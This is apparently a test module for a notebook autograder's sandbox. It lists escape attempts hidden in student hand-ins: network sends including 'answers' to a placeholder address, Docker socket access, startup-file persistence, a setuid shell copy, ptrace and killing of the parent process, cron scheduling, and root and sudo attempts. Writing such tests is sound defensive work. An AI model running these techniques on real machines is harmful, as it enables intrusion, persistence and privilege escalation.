"""Escaping: the network, other people's files, other processes, and the rights of the account that grades."""

from __future__ import annotations

from textwrap import dedent

from tests.attacks.attack import LEAKED, PORT, PS1, TRACE, Attack, deserved
from tests.attacks.handin import hand_in


def _escape(name: str, what: str, cell: str) -> Attack:
    """Try to get out from a cell; `TELL` says that it worked. The answers are right and keep their points."""
    build = hand_in(after={"test-derivative": dedent(cell).replace("TELL", f'print("{LEAKED}")')})
    return Attack(name, "escaping", PS1, what, build, deserved(PS1), forbidden=(LEAKED,))


def _function(name: str, what: str, lines: str) -> Attack:
    """Try to get out while a test runs."""
    body = "\n".join(f"    {line}" for line in dedent(lines).strip().splitlines())
    build = hand_in({"derivative": f"def derivative(f, x):\n{body}\n    return 0.0\n"})
    return Attack(name, "escaping", PS1, what, build, deserved(PS1, "derivative"))


NETWORK = (
    _escape("loopback", "It connects to a server on this machine.", f"""
        import socket
        for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
            try:
                socket.socket(family).connect((host, {PORT}))
                TELL
            except OSError:
                pass
        """),
    _escape("outside", "It looks up a name, and sends to an address that nobody has.", """
        import socket
        try:
            socket.getaddrinfo("example.org", 80)
            TELL
        except OSError:
            pass
        try:
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"answers", ("192.0.2.1", 53))
            TELL
        except OSError:
            pass
        """),
    _escape("raw-sockets", "It opens raw sockets, packet sockets and netlink.", """
        import socket
        for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW)):
            try:
                socket.socket(family, kind, 1)
                TELL
            except OSError:
                pass
        """),
    _escape("sockets-of-services", "It connects to the sockets of services of this machine.", """
        import glob, socket
        for path in ("/var/run/docker.sock", "/run/dbus/system_bus_socket", *glob.glob("/tmp/.X11-unix/*")):
            try:
                socket.socket(socket.AF_UNIX).connect(path)
                TELL
            except OSError:
                pass
        """),
    _escape("abstract-sockets", "It connects to sockets that have names and no files.", """
        import pathlib, socket
        table = pathlib.Path("/proc/net/unix")
        for line in table.read_text().splitlines() if table.exists() else ():
            name = line.split()[-1]
            if name.startswith("@"):
                try:
                    socket.socket(socket.AF_UNIX).connect("\\0" + name[1:])
                    TELL
                except OSError:
                    pass
        """),
    _escape("package-installed", "It installs a package.", f"""
        import subprocess, sys
        command = [sys.executable, "-m", "pip", "install", "--quiet", "--no-deps", "{TRACE}-package"]
        if subprocess.run(command, capture_output=True, timeout=50).returncode == 0:
            TELL
        """),
)  # fmt: skip

FILES = (
    _escape("files-elsewhere", "It leaves a file in the home folder, in temporary folders and beside the package.", f"""
        import gdhelpers, os, pathlib, sys
        places = [pathlib.Path.home(), "/tmp", "/var/tmp", "/dev/shm", "/", "/etc", "/root", sys.prefix]
        places += [*pathlib.Path(gdhelpers.__path__[0]).parents, *gdhelpers.__path__, *pathlib.Path.cwd().parents]
        for place in places:
            try:
                (pathlib.Path(place) / "{TRACE}").touch()
            except OSError:
                pass
        """),
    _escape("files-by-proc", "It leaves a file where the parent process works, by way of /proc.", f"""
        import os, pathlib
        for process in (os.getppid(), 1):
            for way in ("cwd", "root/tmp", "root/root"):
                try:
                    (pathlib.Path(f"/proc/{{process}}") / way / "{TRACE}").touch()
                except OSError:
                    pass
        """),
    _escape("start-up-files", "It leaves start-up code for whoever starts Python or IPython next.", f"""
        import os, pathlib, site, sys
        text = "open('/tmp/{TRACE}-startup', 'w').close()"
        for place in (*site.getsitepackages(), site.getusersitepackages(), sys.prefix):
            for name in ("{TRACE}.pth", "{TRACE}.py"):
                try:
                    pathlib.Path(place, name).write_text("import os; " + text)
                except OSError:
                    pass
        """),
    _escape("package-changed", "It changes a module of the course for the next student.", f"""
        import gdhelpers.checks.comparator as module
        try:
            with open(module.__file__, "a") as file:
                file.write("# {TRACE}\\n")
            TELL
        except OSError:
            pass
        """),
    _escape("links-to-elsewhere", "It leaves links in its work folder, which lead out of it.", """
        import os
        for name, target in (("home", os.path.expanduser("~root")), ("all", "/"), ("loop", "loop"), ("up", "..")):
            os.symlink(target, f"link-{name}")
        """),
    _escape("work-folder-replaced", "It puts a link in the place of its work folder.", """
        import os
        work = os.getcwd()
        try:
            os.rename(work, work + "-moved")
            os.symlink("/usr", work)
        except OSError:
            pass
        """),
    _escape("set-user-id", "It makes a program that runs with the rights of its owner.", """
        import os, shutil
        try:
            shutil.copy("/bin/sh", "shell")
            os.chmod("shell", 0o4755)
        except OSError:
            pass
        """),
    _escape("devices", "It opens the memory and the disks of the machine.", """
        import glob, os
        for path in ("/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/proc/kcore", *glob.glob("/dev/loop*")):
            try:
                os.close(os.open(path, os.O_RDONLY))
                TELL
            except OSError:
                pass
        """),
)  # fmt: skip

PROCESSES = (
    _function("parent-killed", "The function kills its parent process.", "import os\nos.kill(os.getppid(), 9)"),
    _function("parent-stopped", "The function stops its parent process.", "import os\nos.kill(os.getppid(), 19)"),
    _escape("parent-limited", "It sets limits for its parent process.", """
        import os, resource
        try:
            resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (8, 8))
        except (OSError, PermissionError):
            pass
        """),
    _escape("parent-traced", "It attaches to its parent process as a debugger and reads its memory.", """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.ptrace(16, os.getppid(), None, None) == 0:
            libc.ptrace(17, os.getppid(), None, None)
            TELL
        """),
    _escape("others-seen", "It looks for processes that are not its own.", """
        import os, pathlib
        own = os.getuid()
        for entry in pathlib.Path("/proc").glob("[0-9]*"):
            try:
                line = (entry / "cmdline").read_bytes()
            except OSError:
                continue
            if b"pytest" in line or b"gd\\0grade" in line or b"sshd" in line or b"jupyter-lab" in line:
                TELL
        """),
    _escape("descriptors-stolen", "It takes a file descriptor of its parent process.", """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        held = libc.syscall(434, os.getppid(), 0)
        if held >= 0 and any(libc.syscall(438, held, number, 0) >= 0 for number in range(3, 32)):
            TELL
        """),
    _escape("scheduled", "It schedules itself for later, by at, cron and systemd.", f"""
        import subprocess
        for command in (["crontab", "-"], ["at", "now + 1 minute"], ["systemd-run", "--user", "true"]):
            entry = b"* * * * * touch /tmp/{TRACE}-cron\\n"
            try:
                subprocess.run(command, input=entry, capture_output=True, timeout=20)
            except (OSError, subprocess.TimeoutExpired):
                pass
        """),
)  # fmt: skip

RIGHTS = (
    _escape("namespaces", "It makes namespaces of its own, in which it has rights.", """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.unshare(0x10000000 | 0x00020000) == 0 and libc.mount(b"x", b"/tmp", b"tmpfs", 0, None) == 0:
            TELL
        """),
    _escape("root", "It becomes root, by call and by command.", """
        import os, subprocess
        try:
            os.setuid(0)
            os.chroot("/")
            TELL
        except OSError:
            pass
        for command in (["sudo", "-n", "true"], ["su", "-c", "true"]):
            try:
                if subprocess.run(command, capture_output=True, stdin=subprocess.DEVNULL).returncode == 0:
                    TELL
            except OSError:
                pass
        """),
    _escape("system-calls", "It tries system calls that no notebook needs: BPF, io_uring, user faults and others.", """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        for number in (321, 323, 425, 250, 298, 175, 246):
            if libc.syscall(number, 0, 0, 0, 0, 0) >= 0:
                TELL
        """),
)  # fmt: skip

ATTACKS = NETWORK + FILES + PROCESSES + RIGHTS
